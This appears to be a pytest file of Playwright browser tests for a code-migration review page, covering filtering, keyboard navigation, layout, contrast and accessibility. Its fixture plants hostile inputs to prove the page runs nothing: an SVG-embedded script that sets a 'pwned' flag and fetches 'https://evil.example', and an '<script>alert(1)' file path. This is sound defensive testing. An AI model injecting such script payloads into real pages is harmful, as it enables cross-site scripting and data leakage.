"""The page of ``report`` in headless Chromium, of a hostile checkout: it reads, filters, obeys keys, and runs nothing."""

import pytest

from migrator import review

from hostile import HOSTILE, hostile_checkout
from reviewed import (
    EVIL,
    FAILED,
    PASSED,
    PLAN,
    edit,
    evil,
    migrated,
    rehearsal,
    verify_report,
)

pytestmark = pytest.mark.browser

WIDE, PHONE = {"width": 1280, "height": 900}, {"width": 390, "height": 844}


@pytest.fixture(scope="module")
def found(tmp_path_factory):
    """A review with all there is: hand edits, verdicts with curves, hostile words everywhere."""
    folder = tmp_path_factory.mktemp("page")
    tree = migrated(hostile_checkout(folder, f"# {EVIL}\n"))
    edit(tree, HOSTILE, "import", f"import os  # {EVIL}\nimport")
    edit(tree, PLAN, "def apply_replicate(", "def apply_replicate(  # by hand")
    (tree / "torchtitan/long.py").write_text(f"x = '{'long ' * 500}{'x' * 3000}'\n")
    cells = {"dp": PASSED, "dp+tp": evil(FAILED)}
    before = rehearsal(f" {EVIL}")
    report = verify_report(folder / "report", tree, before=before, **cells)
    for plot in (report / "plots").glob("01-*.svg"):
        script = "<script>parent.pwned=3;fetch('https://evil.example')</script>"
        head, _, rest = plot.read_text().partition("<metadata>")
        plot.write_text(f"{head}{script}<metadata>{rest}")
    return review.review(tree, target="1d", verify_report=report)


@pytest.fixture(scope="module")
def address(found, tmp_path_factory):
    path = tmp_path_factory.mktemp("html") / "a page.html"
    review.write(review.as_html(found), path)
    return path.as_uri()


@pytest.fixture
def opened(browser, address):
    """Opens the page; afterwards nothing was said, asked of the network, or run."""
    contexts, trouble = [], []

    def open_(viewport=WIDE, hash_="", **options):
        context = browser.new_context(viewport=viewport, **options)
        contexts.append(context)
        page = context.new_page()

        def asked(route):
            if route.request.url.split("#")[0] != address:
                trouble.append(route.request.url)
            route.continue_() if route.request.url.startswith(
                "file:"
            ) else route.abort()

        page.route("**/*", asked)
        page.on("console", lambda message: trouble.append(message.text))
        page.on("pageerror", lambda error: trouble.append(str(error)))
        page.on("dialog", lambda dialog: (trouble.append("dialog"), dialog.dismiss()))
        page.goto(address + hash_)
        return page

    yield open_
    for context in contexts:
        for page in context.pages:
            if page.evaluate("window.pwned") is not None:
                trouble.append("pwned")
        context.close()
    assert trouble == []


def shown(page, selector: str) -> int:
    return page.locator(selector).locator("visible=true").count()


def view(page) -> str:
    unified, split = (shown(page, f".hunk .{name}") for name in ("unified", "split"))
    assert bool(unified) != bool(split)
    return "split" if split else "unified"


def at(page) -> str | None:
    return page.evaluate("document.activeElement.id || null")


def test_nothing_of_the_checkout_runs(opened, found):
    page = opened()
    for details in page.locator("details").all():
        details.evaluate("one => { one.open = true; }")
    page.wait_for_timeout(300)
    assert page.locator("h3 .path", has_text="<script>alert(1)<script>").count()
    assert page.locator("img").count() == len(found.verified.plots) == 2
    sizes = page.evaluate("[...document.images].map(i => i.naturalWidth)")
    assert all(sizes), "the curves are shown, the one with a script in it too"


@pytest.mark.parametrize("viewport", [WIDE, PHONE, {"width": 320, "height": 600}])
@pytest.mark.parametrize("chosen", ["unified", "split"])
def test_nothing_is_wider_than_the_window(opened, viewport, chosen):
    page = opened(viewport, f"#view={chosen}")
    page.evaluate(
        "document.querySelectorAll('details').forEach(d => { d.open = true; })"
    )
    assert view(page) == chosen
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    page.evaluate("scrollTo(500, 0)")
    assert page.evaluate("scrollX") == 0
    if chosen == "unified":
        long = page.locator(".file", has_text="long.py").locator(".unified")
        assert long.evaluate("one => one.scrollWidth > 3 * one.clientWidth")


def test_no_row_is_left_to_the_indentation_alone(opened):
    page = opened(WIDE, "#view=split")
    long = page.locator(".split td.c", has_text="param_dtype=TORCH_DTYPE_MAP[").first
    top, height, first = long.evaluate(
        """one => {
          const text = document.createTreeWalker(one, NodeFilter.SHOW_TEXT).nextNode();
          const range = document.createRange();
          const at = text.data.search(/\\S/);
          range.setStart(text, at); range.setEnd(text, at + 1);
          const box = one.getBoundingClientRect();
          return [box.top, box.height, range.getBoundingClientRect().top];
        }"""
    )
    assert height > 30 and first - top < 10, "it is wrapped, and begins at once"


def test_rules_filter_hunks_and_hazards(opened, found):
    page = opened()
    assert shown(page, ".hunk") == len(found.hunks)
    page.get_by_label("TM103").check()
    of_rule = [hunk for hunk in found.hunks if "TM103" in hunk.codes]
    assert shown(page, ".hunk") == len(of_rule) > 0
    files = [f for f in found.files if "TM103" in f.codes]
    assert shown(page, ".file") == len(files) < len(found.files)
    assert (
        page.locator("#shown").text_content()
        == f"{len(of_rule)} of {len(found.hunks)} hunks"
    )
    assert shown(page, ".hazard") == 0
    page.get_by_label("by hand").check()
    either = [h for h in found.hunks if "TM103" in h.codes or h.touch.by_hand]
    assert shown(page, ".hunk") == len(either) > len(of_rule)
    page.get_by_role("button", name="Show all").click()
    assert shown(page, ".hunk") == len(found.hunks)
    assert shown(page, ".hazard") == len(found.hazards)


def test_a_hazards_rule_shows_the_hazards_alone(opened, found):
    page = opened()
    code = found.hazards[0].code
    page.locator(f"input[value={code}]").check()
    assert shown(page, ".hazard") == sum(h.code == code for h in found.hazards)
    assert shown(page, ".hunk") == 0 and page.locator("#none").is_visible()


def test_folders_filter_what_lies_below_them(opened, found):
    page = opened()
    for option in page.locator("select option").all()[1:]:
        text = option.text_content()
        folder = "" if text == "(top)" else text
        page.locator("select").select_option(option.get_attribute("value"))
        below = [f for f in found.files if f"{f.folder}/".startswith(f"{folder}/")]
        assert shown(page, ".file") == len(below)
        assert shown(page, ".hunk") == sum(len(file.hunks) for file in below)
        hazards = [h for h in found.hazards if f"{h.folder}/".startswith(f"{folder}/")]
        assert shown(page, ".hazard") == len(hazards)
    page.locator("select").select_option("")
    assert shown(page, ".hunk") == len(found.hunks)


def test_the_view_goes_by_the_width_until_the_address_says_otherwise(opened):
    assert view(opened(WIDE)) == "split" and view(opened(PHONE)) == "unified"
    page = opened(PHONE)
    page.get_by_role("button", name="Side by side").click()
    assert view(page) == "split" and page.url.endswith("#view=split")
    page.reload()
    assert view(page) == "split"
    assert page.locator("#view").get_attribute("aria-pressed") == "true"
    page.keyboard.press("u")
    assert view(page) == "unified" and page.url.endswith("#view=unified")
    assert view(opened(WIDE, "#view=unified")) == "unified"
    assert view(opened(PHONE, "#view=nonsense")) == "unified"


def test_a_link_within_the_page_keeps_the_view(opened):
    page = opened(WIDE, "#view=unified")
    page.locator(".card[href='#hazards']").click()
    assert page.url.endswith("#hazards") and view(page) == "unified"


def test_keys_go_from_hunk_to_hunk(opened, found):
    page = opened(reduced_motion="reduce")
    page.keyboard.press("j")
    assert at(page) == "h1"
    page.keyboard.press("j")
    assert at(page) == "h2"
    bar = page.locator(".bar").bounding_box()
    box = page.locator("#h2").bounding_box()
    assert bar["y"] + bar["height"] <= box["y"] < 400, "not below the filters"
    page.keyboard.press("k")
    assert at(page) == "h1"
    page.keyboard.press("k")
    assert at(page) == "h1", "there is none before the first"
    page.get_by_label("by hand").check()
    by_hand = [n for n, h in enumerate(found.hunks, 1) if h.touch.by_hand]
    page.evaluate("document.activeElement.blur(); scrollTo(0, 0)")
    for number in by_hand:
        page.keyboard.press("j")
        assert at(page) == f"h{number}"


def test_j_begins_where_one_reads(opened):
    page = opened(reduced_motion="reduce")
    page.evaluate("document.getElementById('h3').scrollIntoView({behavior: 'instant'})")
    page.keyboard.press("j")
    assert at(page) in ("h3", "h4")
    page.evaluate(
        "document.activeElement.blur(); scrollTo(0, document.body.scrollHeight)"
    )
    page.keyboard.press("k")
    last = page.locator(".hunk").last.get_attribute("id")
    assert at(page) == last


def test_keys_are_left_alone_where_one_types_and_with_modifiers(opened):
    page = opened(reduced_motion="reduce")
    page.locator("select").focus()
    page.keyboard.press("j")
    assert at(page) is None or not at(page).startswith("h")
    page.locator("select").blur()
    page.keyboard.press("Control+u")
    assert view(page) == "split"
    page.locator("[name=rule]").first.focus()
    page.keyboard.press("j")
    assert at(page) == "h1"


def test_help_opens_and_closes_by_key(opened):
    page = opened()
    page.keyboard.press("?")
    assert page.get_by_role("dialog").is_visible()
    page.keyboard.press("u")
    page.keyboard.press("Escape")
    assert view(page) == "split", "other keys wait until it is closed"
    assert not page.locator("#help").is_visible()
    page.get_by_role("button", name="Keys").click()
    page.get_by_role("button", name="Close").click()
    assert not page.locator("#help").is_visible()


def test_tab_reaches_everything_and_shows_where_it_is(opened):
    page = opened()
    page.keyboard.press("Tab")
    skip = page.locator(".skip")
    assert skip.evaluate("one => one === document.activeElement")
    assert skip.bounding_box()["x"] >= 0
    page.keyboard.press("Enter")
    reached = set()
    for _ in range(30):
        page.keyboard.press("Tab")
        kind = page.evaluate(
            "() => { const e = document.activeElement; return e.id || e.name || e.className || e.tagName; }"
        )
        reached.add(kind)
        outline = page.evaluate(
            "() => { const e = document.activeElement; const on = e.closest('.chip') ?? e;"
            " return getComputedStyle(on).outlineStyle; }"
        )
        assert outline == "solid", kind
    assert {"rule", "folder", "view", "keys", "SUMMARY", "scroll split"} <= reached
    summary = page.locator(".hunk summary").first
    summary.focus()
    page.keyboard.press("Enter")
    assert page.locator(".hunk .why").first.evaluate("one => one.open")


def test_without_scripts_all_can_be_read(opened, found):
    page = opened(java_script_enabled=False)
    assert shown(page, ".hunk .unified") == len(found.hunks)
    assert not page.locator(".bar").is_visible()
    assert shown(page, ".hazard") == len(found.hazards)
    page.locator(".hunk summary").first.click()
    assert page.locator(".hunk .why p").first.is_visible()


def test_line_numbers_and_signs_are_not_copied(opened, found):
    page = opened(WIDE, "#view=unified")
    copied = page.evaluate(
        "() => { const s = getSelection(); s.selectAllChildren(document.querySelector('#h1 table')); return s.toString(); }"
    )
    lines = [row.line.text for _, row in found.hunks[0].unified()]
    assert [line.strip() for line in copied.split("\n") if line.strip()] == [
        line.strip() for line in lines if line.strip()
    ]


CONTRAST = """() => {
  const channels = (colour) => colour.match(/[\\d.]+/g).map(Number);
  const luminance = (c) => {
    const [r, g, b] = c.slice(0, 3).map((v) => v / 255).map((v) => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const ground = (element) => {
    for (let e = element; e; e = e.parentElement) {
      const c = channels(getComputedStyle(e).backgroundColor);
      if (c.length < 4 || c[3] > 0) return c;
    }
    return [255, 255, 255];
  };
  const poor = [];
  for (const element of document.querySelectorAll("body *")) {
    const pseudo = element.dataset.n ?? element.dataset.s;
    const text = [...element.childNodes].some((n) => n.nodeType === 3 && n.data.trim());
    if (!(text || pseudo) || !element.getClientRects().length) continue;
    if (element.matches("button:disabled, option")) continue;
    const [a, b] = [luminance(channels(getComputedStyle(element).color)), luminance(ground(element))].sort();
    const low = Math.min(a, b), high = Math.max(a, b);
    if ((high + 0.05) / (low + 0.05) < 4.5) poor.push(element.outerHTML.slice(0, 120));
  }
  return [poor, getComputedStyle(document.documentElement).backgroundColor];
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("chosen", ["unified", "split"])
def test_all_text_can_be_read_on_its_ground(opened, scheme, chosen):
    page = opened(WIDE, f"#view={chosen}", color_scheme=scheme)
    page.evaluate(
        "document.querySelectorAll('details').forEach(d => { d.open = true; })"
    )
    poor, ground = page.evaluate(CONTRAST)
    assert poor == []
    assert (ground == "rgb(255, 255, 255)") == (scheme == "light")


def test_nothing_moves_where_motion_is_not_wanted(opened):
    page = opened(reduced_motion="reduce")
    assert (
        page.evaluate("getComputedStyle(document.documentElement).scrollBehavior")
        == "auto"
    )
    page.keyboard.press("j")
    before = page.evaluate("scrollY")
    page.wait_for_timeout(200)
    assert page.evaluate("scrollY") == before > 0


def test_print_shows_all_of_it(opened):
    page = opened()
    page.emulate_media(media="print")
    assert view(page) == "unified" and not page.locator(".bar").is_visible()
    assert page.locator(".hunk .why p").first.is_visible()


def test_names_for_those_who_listen(opened):
    page = opened()
    lacking = page.evaluate(
        "() => [...document.querySelectorAll('[tabindex=\"0\"], .hunk, img, button, select, dialog')]"
        ".filter(e => !(e.ariaLabel || e.alt || e.textContent.trim() || e.getAttribute('aria-labelledby')))"
        ".map(e => e.outerHTML.slice(0, 90))"
    )
    assert lacking == []
    levels = page.evaluate(
        "[...document.querySelectorAll('main :is(h1,h2,h3), h1')].map(e => +e.tagName[1])"
    )
    assert levels[0] == 1 and all(b - a <= 1 for a, b in zip(levels, levels[1:]))
    assert page.evaluate("document.documentElement.lang") == "en"


def test_plans_stand_beside_each_other_with_their_groups_in_them(opened):
    page = opened()
    failed = page.locator("#rehearsal details").nth(1)
    failed.locator("summary").click()
    plans = failed.locator(".plan")
    assert plans.count() == 3
    tops = {round(plans.nth(n).bounding_box()["y"]) for n in range(3)}
    assert len(tops) == 1
    odd = failed.locator(".box.odd").locator("visible=true")
    assert "differs" in odd.first.inner_text()
    assert "gradients averaged" in odd.first.inner_text()
    page.locator("#rehearsal summary").first.click()
    right = page.locator("#rehearsal details").first
    assert right.locator(".box").locator("visible=true").count() == 1 + 3 + 3
    assert right.locator(".odd").count() == 0
